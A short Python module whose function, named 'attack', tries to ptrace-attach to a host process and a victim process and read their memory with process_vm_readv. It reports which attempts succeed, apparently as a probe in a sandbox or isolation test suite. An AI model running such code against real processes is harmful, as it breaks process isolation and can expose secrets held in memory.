"""ptrace-attach to the host and read its memory with process_vm_readv (via ctypes)."""

import sys


def attack(event, ctx):
    got, errors = {}, []
    ctypes = sys.modules.get("ctypes")
    if ctypes is None:
        try:
            import ctypes
        except BaseException as exc:
            return {"got": {}, "errors": [f"import ctypes: {type(exc).__name__}: {exc}"]}
    try:
        libc = ctypes.CDLL(None, use_errno=True)
    except Exception as exc:
        return {"got": {}, "errors": [f"CDLL: {type(exc).__name__}: {exc}"]}
    for pid in (event["host_pid"], event["victim_pid"]):
        rc = libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
        if rc == 0:
            got[f"attach:{pid}"] = True
            libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
        else:
            errors.append(f"ptrace {pid}: errno {ctypes.get_errno()}")
        buf = ctypes.create_string_buffer(64)

        class IoVec(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

        local = IoVec(ctypes.cast(buf, ctypes.c_void_p), 64)
        remote = IoVec(0x400000, 64)
        n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if n > 0:
            got[f"vm_read:{pid}"] = n
        else:
            errors.append(f"process_vm_readv {pid}: errno {ctypes.get_errno()}")
    return {"got": got, "errors": errors}
